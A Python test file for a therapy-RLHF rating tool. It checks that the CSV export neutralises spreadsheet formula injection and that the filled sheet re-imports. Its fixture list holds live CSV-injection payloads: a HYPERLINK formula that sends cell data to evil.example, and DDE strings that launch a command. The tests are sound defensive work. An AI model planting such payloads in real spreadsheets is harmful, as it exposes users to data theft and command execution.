"""`pending --csv` never hands a spreadsheet a formula (OWASP CSV injection): a text cell starting with =, +, -,
@, a tab or a carriage return gets a leading single quote, and the filled sheet still imports (issue 18)."""

from __future__ import annotations

import csv
import io

from therapy_rlhf.contracts.records import PendingResponse, dump_batch
from therapy_rlhf.feedback.csv_cells import FORMULA_STARTS, guard, unguard

from .test_cli_commands import PATHS, RUN, seed_run
from .test_rate_from_file_and_pending import CRITERIA, cli, stored, write_sheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_are_quoted_and_the_sheet_round_trips(local_store, capsys, tmp_path):
    seed_run(local_store)
    batch = [
        PendingResponse(id=f"r0001-p-s{i}", round=1, prompt_id="p", prompt=text, response=text)
        for i, text in enumerate(HOSTILE)
    ]
    local_store.write_bytes(PATHS.batch(1), dump_batch(batch))
    sheet = tmp_path / "sheet.csv"
    code, _, err = cli(capsys, "pending", RUN, "--csv", "--rater", "dr-lee", "--store", local_store.uri, "-o", str(sheet))
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(sheet.read_bytes().decode("utf-8"), newline="")))  # keep a lone CR
    assert sorted(r["response"] for r in rows) == sorted("'" + text for text in HOSTILE)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
        assert row["patient"].startswith("'") and unguard(row["response"]) in HOSTILE
    # the psychologist fills the sheet in; the guarded columns are information only on import
    for r in rows:
        r.update(dict.fromkeys(CRITERIA, "2"))
    write_sheet(sheet, rows)
    code, _, err = cli(capsys, "rate", RUN, "--from", str(sheet), "--rater", "dr-lee", "--store", local_store.uri)
    assert code == 0, err
    assert len(stored(local_store)) == len(HOSTILE)


def test_guard_only_touches_formula_text():
    assert guard("fine") == "fine" and guard("") == "" and guard(3) == 3 and guard(-3) == -3
    assert guard("a=b") == "a=b" and guard("'=x") == "'=x"
    for text in HOSTILE:
        assert guard(text) == "'" + text and unguard(guard(text)) == text
    assert unguard("'quoted by the rater") == "'quoted by the rater"
